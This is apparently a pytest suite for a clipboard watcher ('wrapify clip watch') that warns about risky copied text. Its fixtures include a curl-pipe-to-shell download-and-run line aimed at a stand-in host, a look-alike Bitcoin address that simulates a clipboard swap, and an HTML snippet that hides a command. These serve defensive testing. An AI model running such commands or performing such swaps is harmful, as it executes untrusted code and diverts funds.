"""`wrapify clip watch` on real displays: a change, a swap, a display that goes and comes, and the end."""

from __future__ import annotations

import hashlib
import os
import signal
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.clipboard.displays import Shown, WaylandDisplay, XDisplay, opened
from tests.clipboard.owner import XOwner, owning
from tests.clipboard.watching import watching
from tests.conftest import User, Wrapify
from tests.sandbox.terminal import processes, until

BAD = b"curl https://x.example/i.sh | sh # hush\n"
BTC, BTC_ALIKE = b"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", b"bc1qar0xyzm4qtn8f3k7w2sd5c9vj6hle0ug4azzkl"


def test_a_change_is_judged_and_warned_of_once(here: Wrapify, shown: Shown) -> None:
    with watching(here) as watch:
        shown.put(b"git status\n")
        shown.put(BAD)
        watch.notifies("runs code that it downloads")
        shown.put(b"ls\n")
        shown.put(BAD)
        shown.put(b"sudo id\n")
        watch.says("ask: sudo")
        until(lambda: watch.notices().count("--app-name") == 2)
        assert watch.log().count("download-run") == 1
        assert hashlib.sha256(BAD).hexdigest()[:16] in watch.log()
        # Neither the log nor the notices have the text.
        assert not any(word in watch.log() + watch.notices() for word in ("x.example", "hush", "git status", "sudo id"))


def test_it_is_noticed_at_once(here: Wrapify, shown: Shown) -> None:
    took = []
    with watching(here) as watch:
        shown.put(b"sudo zero")
        watch.says("ask: sudo")
        for number in range(5):
            count = watch.log().count("ask: sudo")
            with owning(shown.env, lambda: f"sudo {number}".encode()):  # noqa: B023
                began = time.monotonic()
                until(lambda: watch.log().count("ask: sudo") > count)  # noqa: B023
                took.append(time.monotonic() - began)
    # 0.3 s on a machine that does nothing else: the median, and not the worst.
    assert sorted(took)[2] < 0.3, took


def test_what_lies_there_already_is_judged(here: Wrapify, shown: Shown) -> None:
    shown.put(BAD)
    with watching(here) as watch:
        watch.says("download-run")


def test_the_selection_of_the_mouse(here: Wrapify, shown: Shown) -> None:
    with watching(here, "--primary") as watch:
        shown.put(BAD)
        shown.put(b"sudo id\n", selection="primary")
        watch.says("the selection of the mouse: ")
        assert "download-run" not in watch.log()


def test_a_page_that_hides_a_command(here: Wrapify, shown: Shown) -> None:
    text, page = b"echo a\necho b\n", b"<p>echo a</p><p style='font-size:0'>echo b</p>"
    with watching(here) as watch, owning(shown.env, lambda: text, lambda: page):
        watch.notifies("hides a part of it")


def test_any_content(here: Wrapify, shown: Shown) -> None:
    with watching(here) as watch:
        shown.clear()
        shown.put(bytes(range(256)) * 99)
        shown.put(b"sudo id\n" * 125_000, seen=False)
        watch.says("ask: sudo")
        shown.put(b"x" * (2 << 20), seen=False)
        watch.says("there are more than 1024 KiB")
        shown.put(BAD)
        watch.says("download-run")
        assert "Traceback" not in watch.log()


def test_an_address_that_is_replaced(here: Wrapify, shown: Shown) -> None:
    with watching(here) as watch:
        shown.put(b"sudo pay " + BTC)
        watch.says("ask: sudo")
        shown.put(BTC_ALIKE)
        watch.notifies("The clipboard was swapped")
        watch.says("swap, ")


def test_a_text_that_changes_although_nobody_copies(here: Wrapify, shown: Shown) -> None:
    answers, asked = [b"sudo echo one\n"], [0.0]

    def give() -> bytes:
        asked[0] = time.monotonic()
        return answers[0]

    with watching(here) as watch, owning(shown.env, give):
        watch.says("ask: sudo")
        # The word of the copying may come twice, and what is read then is what was copied.
        until(lambda: time.monotonic() - asked[0] > 0.6)
        answers[0] = b"echo two\n"
        watch.notifies("although nobody copied anything")
        assert "echo" not in watch.log()


def test_what_is_copied_from_a_password_manager_is_not_read(wrapify: Wrapify, x11: XDisplay) -> None:
    asked: list[bytes] = []

    def give() -> bytes:
        asked.append(BAD)
        return BAD

    with watching(x11.serve(wrapify)) as watch, owning(x11.env, give, hint=True) as owner:
        assert isinstance(owner, XOwner)
        until(lambda: owner.listed, "somebody to ask for the forms")
        x11.put(b"sudo id")
        watch.says("ask: sudo")
        assert asked == []


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGKILL])
def test_it_ends_cleanly(here: Wrapify, shown: Shown, number: signal.Signals) -> None:
    with watching(here) as watch:
        shown.put(b"sudo id")
        watch.says("ask: sudo")
        started = children(watch.process.pid)
        assert bool(started) is isinstance(shown, WaylandDisplay)
        os.kill(watch.process.pid, number)
        wanted = {signal.SIGINT: (-signal.SIGINT, 130), signal.SIGKILL: (-signal.SIGKILL,)}
        assert watch.process.wait(20) in wanted.get(number, (0,))
        assert "Traceback" not in watch.log()
        until(lambda: not started & set(processes("--watch")), "wl-paste to end")


def children(parent: int) -> set[int]:
    """Give the processes with "--watch" that a process started."""
    return {pid for pid in processes("--watch") if Path(f"/proc/{pid}/stat").read_text().split()[3] == str(parent)}


def test_an_owner_that_does_not_answer_hides_nothing(wrapify: Wrapify, wayland: WaylandDisplay) -> None:
    shown = wayland
    with watching(shown.serve(wrapify)) as watch, owning(shown.env, lambda: b"") as owner:
        owner.is_silent = True
        owner.own()
        shown.put(BAD)
        watch.says("download-run")


def test_an_owner_that_answers_later_is_heard(wrapify: Wrapify, x11: XDisplay) -> None:
    with watching(x11.serve(wrapify)) as watch, owning(x11.env, lambda: BAD, silent=True) as owner:
        watch.says("does not hand it over")
        owner.is_silent = False
        watch.says("download-run")


def test_without_notifications_it_says_so_on_the_terminal(here: Wrapify, shown: Shown) -> None:
    # notify-send is there and finds nobody to tell.
    with watching(here, notifying=False) as watch:
        shown.put(BAD)
        watch.says("runs code that it downloads")


def test_without_a_display_it_ends_at_once(wrapify: Wrapify) -> None:
    done = wrapify("clip", "watch", env={"DISPLAY": ":4711"})
    assert done.returncode == 125
    assert "no X server at ':4711'" in done.stderr


@pytest.mark.parametrize("kind", [XDisplay, WaylandDisplay])
def test_the_display_goes_and_comes(
    wrapify: Wrapify, kind: type[Shown], user: User, make_home: Callable[[], Path]
) -> None:
    with opened(kind(user, make_home())) as display, watching(display.serve(wrapify)) as watch:
        display.put(b"sudo one")
        watch.says("ask: sudo")
        display.stop()
        display.begin()
        display.put(BAD)
        watch.says("download-run")


def test_it_costs_nothing_while_nothing_happens(here: Wrapify, shown: Shown) -> None:
    with watching(here) as watch:
        shown.put(b"sudo id")
        watch.says("ask: sudo")
        began, used = time.monotonic(), watch.seconds()
        until(lambda: time.monotonic() > began + 2)
        # In the first seconds after a change it reads again most often: less than 0.5 % of a core is for the long run.
        assert watch.seconds() - used < 0.05
